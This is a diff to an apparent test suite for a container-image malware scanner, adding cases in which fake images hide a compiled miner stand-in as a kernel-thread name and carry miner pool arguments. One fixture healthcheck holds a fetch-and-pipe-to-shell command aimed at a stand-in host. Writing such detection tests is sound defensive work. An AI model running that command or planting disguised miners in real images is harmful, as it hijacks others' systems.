@@ -669,6 +669,33 @@ def heuristics_score_packers_places_and_permissions():
 FAKE_WALLET = "4" + "AbCdEfGhJk" * 9 + "MnPq"  # 95 base58 characters: the shape only
 
 
+def compile_standin(name, *flags):
+    """Build a stand-in from tests/fixtures/standins/NAME.c with the system C
+    compiler (never run here: only its bytes go into an image)."""
+    out = os.path.join(WORK, "standin-" + name + "".join(f.strip("-") for f in flags))
+    src = os.path.join(os.path.dirname(HERE), "fixtures", "standins", name + ".c")
+    subprocess.run(["cc", "-O2", "-o", out, src] + list(flags), check=True)
+    return open(out, "rb").read()
+
+
+@case
+def compiled_miner_standin_hidden_as_kernel_thread():
+    """A real ELF built from C (option table, usage text, stratum login, pool
+    list), static and stripped like dropped miners, hidden as a kernel-thread
+    name in a dot directory: the family rule and the heuristics both see it."""
+    miner = compile_standin("miner", "-static", "-s")
+    root = d("compiled")
+    oci_image(root, [base_layer(),
+                     Layer([E("usr/lib/.cache/kworker", miner, mode=0o755)],
+                           created_by="COPY kworker /usr/lib/.cache/kworker")])
+    r = scan(root)
+    eq(r.rc, 1, r.err)
+    f = one_finding(r, "SW-MINER-XMRIG", "/usr/lib/.cache/kworker", 1)
+    eq(f["severity"], "critical", "severity")
+    h = one_finding(r, "SW-HEUR-SUSPICIOUS-FILE", "/usr/lib/.cache/kworker", 1)
+    ok(h["severity"] in ("medium", "high"), "kernel-thread name + dot dir + static: %s" % h["severity"])
+
+
 @case
 def config_and_history_reveal_the_miner():
     import base64
@@ -681,6 +708,7 @@ def config_and_history_reveal_the_miner():
                    "Cmd": ["-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", FAKE_WALLET,
                            "--donate-level", "1"],
                    "Env": ["PATH=/usr/bin:/bin", "POOL_B64=" + hidden_pool],
+                   "ExposedPorts": {"14444/tcp": {}, "8080/tcp": {}},
                    "Healthcheck": {"Test": ["CMD-SHELL", "wget -qO- http://x.invalid/h.sh | sh"]}},
         "history": [{"created_by": "/bin/sh -c #(nop) ENV A=b", "empty_layer": True},
                     {"created_by": layers[0].created_by}, {"created_by": layers[1].created_by}]})
@@ -696,6 +724,9 @@ def config_and_history_reveal_the_miner():
     start = [f for f in by["SW-CONFIG-MINER-ARGS"] if f["evidence"]["field"] == "Entrypoint+Cmd"][0]
     eq((start["severity"], start["category"], start["path"], start["layer"]), ("critical", "miner", None, None),
        "miner options at start")
+    eq(start["evidence"]["user"], "root (no User set)", "who the start command runs as")
+    eq([(f["evidence"]["value"], f["evidence"]["match"], f["severity"]) for f in by["SW-CONFIG-PORT"]],
+       [("14444/tcp", "mining proxy", "medium")], "a mining port with mining settings is medium; 8080 is nothing")
     eq(by["SW-CONFIG-WALLET"][0]["evidence"]["match"], FAKE_WALLET, "wallet")
     decoded = [f for f in by["SW-CONFIG-POOL"] if f["evidence"]["field"] == "Env"]
     ok(decoded and decoded[0]["evidence"]["decoded"].startswith("stratum+tcp://pool.c3pool.com"),
@@ -706,6 +737,20 @@ def config_and_history_reveal_the_miner():
     eq((h["severity"], h["layer"], h["created_by"]), ("low", 0, layers[0].created_by),
        "history step attributed to its layer")
     eq(r.json["verdict"], "malicious", "verdict")
+
+
+@case
+def config_ports_and_user_alone():
+    """A port alone is a weak signal (docker:dind exposes 2375): low, and
+    the image stays clean of high findings."""
+    root = d("cfgports")
+    oci_image(root, [base_layer()], cfg_extra={
+        "config": {"Entrypoint": ["/bin/sh"], "User": "1000:1000",
+                   "ExposedPorts": {"2375/tcp": {}, "2376": {}, "80/tcp": {}, "x/tcp": {}, "3333/udp": {}}}})
+    r = scan(root)
+    eq(r.rc, 0, r.err)
+    got = sorted((f["evidence"]["value"], f["severity"]) for f in r.json["findings"] if f["id"] == "SW-CONFIG-PORT")
+    eq(got, [("2375/tcp", "low"), ("2376", "low"), ("3333/udp", "low")], "ports")
 
 
 DAO_PY = (b"#!/usr/bin/env python3\n# launcher stand-in, shaped like the reported dao.py\n"
